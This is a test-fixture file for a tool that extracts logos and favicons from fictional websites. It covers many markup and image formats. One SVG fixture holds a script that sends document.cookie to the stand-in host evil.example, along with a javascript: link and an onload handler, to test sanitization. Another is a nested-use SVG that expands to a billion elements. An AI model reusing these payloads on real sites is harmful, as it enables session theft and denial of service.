// Fixture sites with a logo in the header, in many forms of markup and for both backgrounds.
import {
  ardentia,
  brimstead,
  cobaltino,
  crescentia,
  fennrick,
  grubenkopf,
  havrel,
  jotunfelt,
  kestrelon,
  lumbrick,
  nimbolix,
  orbifant,
  oxaly,
  pellumo,
  petalune,
  pinebarrow,
  ringelweb,
  saltmarina,
  tarnwick,
  trivolto,
  umbrago,
  voltanea,
  zephyrine,
} from './brands.ts'
import { BLACK, bar, documentOf, plate, WHITE } from './drawings.ts'
import { avif, cmyk, file, gif, ico, jpeg, photo, png, pngOf, svg, webp } from './renditions.ts'
import { pageFile, type Site } from './site.ts'

const lockupPngBase64 = pngOf(umbrago.lockup(), 720).toString('base64')
const { width: lockupWidth } = umbrago.lockup()
const svgWithBitmap = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 ${lockupWidth} 64"><image width="${lockupWidth}" height="64" xlink:href="data:image/png;base64,${lockupPngBase64}"/></svg>`

const svgWithScript = documentOf(
  {
    ...ringelweb.lockup(),
    inside: `<script>fetch('https://evil.example/?'+document.cookie)</script><foreignObject width="100" height="20"><div xmlns="http://www.w3.org/1999/xhtml">Hello</div></foreignObject><a href="javascript:alert(1)">${ringelweb.lockup().inside}</a>`,
  },
  'onload="alert(1)"',
)
/** A logo over ten nested definitions that expand to a billion dots. */
const expandingSvg = documentOf({
  ...lumbrick.lockup(),
  inside: `<defs><circle id="d0" r=".01"/>${Array.from({ length: 9 }, (_, at) => `<g id="d${at + 1}">${`<use href="#d${at}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#d9"/>${lumbrick.lockup().inside}`,
})
/** An svg whose colors and mark are in external files. */
const externalFilesSvg = `<?xml-stylesheet type="text/css" href="https://assets.cobaltino.com/brand.css"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${cobaltino.lockup().width} 64"><image width="64" height="64" href="https://assets.cobaltino.com/mark.png"/><rect class="ground" width="100%" height="64"/><g transform="translate(78 14) scale(.8)" class="letters">${cobaltino.letters(['', '']).inside.replace(' stroke=""', '')}</g></svg>`

export const HEADERS: Site[] = [
  {
    name: 'an inline svg lockup after social links, menu and search icons, with a favicon of the mark',
    host: 'kestrelon.aero',
    files: {
      '/': pageFile('kestrelon.aero'),
      '/k48.png': png(kestrelon.mark(), 48),
    },
    expected: { icon: ['/k48.png'], wordmark: ['inline:7'] },
    why: 'Seven svg elements come before it, but only the lockup links to the home page.',
  },
  {
    name: 'mark and letters as two svg elements of one home link',
    host: 'skarvind-marine.com',
    files: {
      '/': pageFile('skarvind-marine.com'),
    },
    expected: { icon: ['inline:0'], wordmark: ['inline:1'] },
    why: 'The square drawing is the icon and the wide one is the wordmark.',
  },
  {
    name: 'a header logo that uses a symbol of a sprite in the page',
    host: 'tarnwick-maps.org',
    files: {
      '/': pageFile('tarnwick-maps.org'),
      '/favicon.ico': ico(tarnwick.mark(), [16, 32, 48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['inline:1'] },
    why: 'The header element refers to the symbol in the sprite.',
    rendersAs: { 'inline:1': documentOf(tarnwick.lockup()) },
  },
  {
    name: 'a header logo that uses a symbol of a sprite in a file',
    host: 'zephyrine-kites.com',
    files: {
      '/': pageFile('zephyrine-kites.com'),
      '/assets/sprite.svg': file(
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg"><symbol id="arrow" viewBox="0 0 9 9"><path d="M0 0l9 4-9 5z"/></symbol><symbol id="brand" viewBox="0 0 ${zephyrine.lockup().width} 64">${zephyrine.lockup().inside}</symbol></svg>`,
      ),
      '/favicon.ico': ico(zephyrine.mark(), [16, 32]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/assets/sprite.svg#brand', 'inline:0'] },
    why: 'The referenced symbol of the file is the logo.',
    rendersAs: {
      'inline:0': documentOf(zephyrine.lockup()),
      '/assets/sprite.svg#brand': documentOf(zephyrine.lockup()),
    },
  },
  {
    name: 'a picture element with a source for dark color schemes',
    host: 'pellumo-docs.com',
    files: {
      '/': pageFile('pellumo-docs.com'),
      '/img/pellumo-on-dark.svg': svg(pellumo.lockup(['#cfc6ff', '#cfc6ff'])),
      '/img/pellumo.svg': svg(pellumo.lockup()),
      '/favicon.ico': ico(pellumo.mark(), [16, 32]),
    },
    expected: {
      icon: ['/favicon.ico'],
      wordmark: ['/img/pellumo.svg'],
      dark: { wordmark: ['/img/pellumo-on-dark.svg'] },
    },
    why: 'The media query defines the theme of each source.',
  },
  {
    name: 'two images, one hidden by a CSS class; “dark” in the file name means dark letters',
    host: 'orbifant-ui.dev',
    files: {
      '/': pageFile('orbifant-ui.dev'),
      '/logo-dark.svg': svg(orbifant.lockup(['#2b1055', '#8a5cd6'])),
      '/logo-light.svg': svg(orbifant.lockup(['#ffffff', '#ffb3c6'])),
      '/favicon.ico': ico(orbifant.mark(), [16, 32]),
    },
    expected: {
      icon: ['/favicon.ico'],
      wordmark: ['/logo-dark.svg'],
      dark: { wordmark: ['/logo-light.svg'] },
    },
    why: 'White letters belong to dark backgrounds, whatever the file name is.',
  },
  {
    name: 'a white logo over a dark picture, with a navy favicon',
    host: 'havrel-cruises.com',
    files: {
      '/': pageFile('havrel-cruises.com'),
      '/img/havrel-white.svg': svg(havrel.lockup(WHITE)),
      '/img/hero.jpg': await photo(1600, 700, 2),
      '/favicon.ico': ico(havrel.mark(), [16, 32, 48]),
    },
    expected: {
      icon: ['/favicon.ico'],
      wordmark: [],
      dark: { icon: [], wordmark: ['/img/havrel-white.svg'] },
    },
    why: 'The white letters are legible only on dark, and the navy mark only on light.',
  },
  {
    name: 'a white header logo with a colored copy for the sticky header',
    host: 'ardentia-grill.com',
    files: {
      '/': pageFile('ardentia-grill.com'),
      '/i/logo-light.png': png(ardentia.lockup(WHITE), 500),
      '/i/logo-color.png': png(ardentia.lockup(), 500),
      '/favicon.ico': ico(ardentia.mark(), [32]),
    },
    expected: {
      icon: ['/favicon.ico'],
      wordmark: ['/i/logo-color.png'],
      dark: { wordmark: ['/i/logo-light.png', '/i/logo-color.png'] },
    },
    why: 'Light needs the colored logo. Dark accepts both, because the red is legible there too.',
  },
  {
    name: 'an inline logo in currentColor',
    host: 'jotunfelt-tools.dev',
    files: {
      '/': pageFile('jotunfelt-tools.dev'),
      '/icon.svg': svg(jotunfelt.mark()),
    },
    expected: {
      icon: ['/icon.svg'],
      wordmark: ['inline:0'],
      dark: { wordmark: ['inline:0'] },
    },
    why: 'currentColor is dark on light backgrounds and white on dark ones.',
    rendersAs: { 'inline:0': documentOf(jotunfelt.lockup(BLACK)) },
  },
  {
    name: 'a JSON-LD graph whose Organization refers to its logo by @id, with a wordmark in the header',
    host: 'pinebarrow-lodge.com',
    files: {
      '/': pageFile('pinebarrow-lodge.com'),
      '/uploads/pine-696.png': png(plate(pinebarrow.mark(), '#ffffff', 0, 7), 696),
      '/uploads/pinebarrow-text.svg': svg(pinebarrow.letters()),
    },
    expected: { icon: ['/uploads/pine-696.png'], wordmark: ['/uploads/pinebarrow-text.svg'] },
    why: 'The graph has the mark, and the header has the wordmark.',
  },
  {
    name: 'a JSON-LD logo that is a wide wordmark, with a header in text',
    host: 'saltmarina-yachts.gr',
    files: {
      '/': pageFile('saltmarina-yachts.gr'),
      '/brand/saltmarina.png': png(saltmarina.letters(), 720),
      '/favicon.ico': ico(saltmarina.mark(), [16, 32, 48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/brand/saltmarina.png'] },
    why: 'A wide logo is a wordmark, also in JSON-LD.',
  },
  {
    name: 'a JSON-LD logo that is a 1200×630 photograph for social previews',
    host: 'oxaly-garden.nl',
    files: {
      '/': pageFile('oxaly-garden.nl'),
      '/o.png': png(oxaly.mark(), 64),
      '/social.jpg': await photo(1200, 630, 4),
      '/oxaly.svg': svg(oxaly.letters()),
    },
    expected: { icon: ['/o.png'], wordmark: ['/oxaly.svg'] },
    why: 'A photograph is never a logo.',
  },
  {
    name: 'a logo only as a CSS background, with a favicon',
    host: 'trivolto-fluid.ch',
    files: {
      '/': pageFile('trivolto-fluid.ch'),
      '/img/bg-logo.png': png(trivolto.lockup(), 440),
      '/favicon.ico': ico(trivolto.mark(), [16, 32, 64], 'png'),
    },
    expected: { icon: ['/favicon.ico'] },
    why: 'The favicon is sufficient. The wordmark is only in the stylesheet and not required.',
  },
  {
    name: 'a header logo in three densities',
    host: 'nimbolix-air.com',
    files: {
      '/': pageFile('nimbolix-air.com'),
      '/l/logo.png': png(nimbolix.lockup(), 150),
      '/l/logo@2x.png': png(nimbolix.lockup(), 300),
      '/l/logo@3x.png': png(nimbolix.lockup(), 450),
    },
    expected: { icon: [], wordmark: ['/l/logo@3x.png', '/l/logo@2x.png'] },
    why: 'All densities show the same logo, and the larger files show more detail.',
  },
  {
    name: 'a lazy-loaded header logo: a placeholder in src, the file in data-src',
    host: 'brimstead-homes.com',
    files: {
      '/': pageFile('brimstead-homes.com'),
      '/media/brimstead.png': png(brimstead.lockup(), 512),
      '/favicon.ico': ico(brimstead.mark(), [32]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/media/brimstead.png'] },
    why: 'The placeholder is a transparent pixel.',
  },
  {
    name: 'a header logo only in noscript',
    host: 'voltanea-cells.com',
    files: {
      '/': pageFile('voltanea-cells.com'),
      '/static/voltanea-a81f.webp': await webp(voltanea.lockup(), 480),
      '/favicon.ico': ico(voltanea.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/static/voltanea-a81f.webp'] },
    why: 'noscript has the image that the script would insert. WebP is an accepted format.',
  },
  {
    name: 'an svg header logo that only contains a bitmap',
    host: 'umbrago-rain.co.uk',
    files: {
      '/': pageFile('umbrago-rain.co.uk'),
      '/img/logo.svg': file('image/svg+xml', svgWithBitmap),
      '/favicon.ico': ico(umbrago.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/img/logo.svg'] },
    why: 'The bitmap inside is the logo, 720 px wide.',
  },
  {
    name: 'an svg header logo with script, handlers and foreignObject, and a PNG in JSON-LD',
    host: 'ringelweb-studio.de',
    files: {
      '/': pageFile('ringelweb-studio.de'),
      '/img/ringelweb.svg': file('image/svg+xml', svgWithScript),
      '/img/ringelweb.png': png(ringelweb.lockup(), 600),
      '/favicon.ico': ico(ringelweb.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/img/ringelweb.svg', '/img/ringelweb.png'] },
    why: 'The sanitized svg and the bitmap show the same logo.',
    rendersAs: { '/img/ringelweb.svg': documentOf(ringelweb.lockup()) },
  },
  {
    name: 'an svg header logo that expands to a billion elements, and a PNG in JSON-LD',
    host: 'lumbrick-blocks.com',
    files: {
      '/': pageFile('lumbrick-blocks.com'),
      '/img/lumbrick.svg': file('image/svg+xml', expandingSvg),
      '/img/lumbrick.png': png(lumbrick.lockup(), 600),
      '/favicon.ico': ico(lumbrick.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/img/lumbrick.png'] },
    why: 'The svg is too expensive to render; the bitmap shows the same logo.',
  },
  {
    name: 'an svg header logo that is black without its external stylesheet, and a complete PNG of it',
    host: 'cobaltino.com',
    files: {
      '/': pageFile('cobaltino.com'),
      '/brand/cobaltino.svg': file('image/svg+xml', externalFilesSvg),
      '/brand/cobaltino.png': png(cobaltino.lockup(), 640),
      'https://assets.cobaltino.com/brand.css': file(
        'text/css',
        '.letters g{stroke:#1d3fbb}.ground{fill:none}',
      ),
      'https://assets.cobaltino.com/mark.png': png(cobaltino.mark(), 128),
      '/favicon.ico': ico(cobaltino.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/brand/cobaltino.png'] },
    why: 'Without its external files the svg is a black bar.',
  },
  {
    name: 'a header logo in AVIF only',
    host: 'crescentia-hotels.com',
    files: {
      '/': pageFile('crescentia-hotels.com'),
      '/_img/crescentia.avif': await avif(crescentia.lockup(), 480),
      '/favicon.ico': ico(crescentia.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/_img/crescentia.avif'] },
    why: 'Every current browser supports AVIF.',
  },
  {
    name: 'an animated GIF as header logo',
    host: 'petalune-retro.org',
    files: {
      '/': pageFile('petalune-retro.org'),
      '/index.html': pageFile('petalune-retro.org-index.html'),
      '/images/petalune_anim.gif': await gif(
        [petalune.mark(), plate(petalune.mark(), null, 0, 3), plate(petalune.mark(), null, 0, 6)],
        120,
      ),
    },
    expected: { icon: ['/images/petalune_anim.gif'], wordmark: null },
    why: 'The first frame is the complete mark.',
    rendersAs: { '/images/petalune_anim.gif': documentOf(plate(petalune.mark(), '#ffffff', 0, 0)) },
  },
  {
    name: 'a CMYK JPEG for print as header logo',
    host: 'grubenkopf-druck.de',
    files: {
      '/': pageFile('grubenkopf-druck.de'),
      '/bilder/GRUBENKOPF_4c.jpg': await cmyk(bar(grubenkopf.lockup(), '#ffffff', 8), 900),
    },
    expected: { icon: [], wordmark: ['/bilder/GRUBENKOPF_4c.jpg'] },
    why: 'CMYK is only a color space; the logo is black on white.',
  },
  {
    name: 'a JPEG header logo on the page’s grey, and the same logo as svg in the footer',
    host: 'fennrick-sports.com',
    files: {
      '/': pageFile('fennrick-sports.com'),
      '/a/logo.jpg': await jpeg(bar(fennrick.lockup(), '#d9d9d9', 20), 300),
      '/a/logo.svg': svg(fennrick.lockup()),
      '/favicon.ico': ico(fennrick.mark(), [32]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/a/logo.svg'] },
    why: 'Both files show the same lockup, one of them on a grey box.',
  },
  {
    name: 'an empty svg in a loading indicator before the logo',
    host: 'trivolto-lab.org',
    files: {
      '/': pageFile('trivolto-lab.org'),
    },
    expected: { icon: [], wordmark: ['inline:1'] },
    why: 'An empty svg is not a logo.',
  },
]
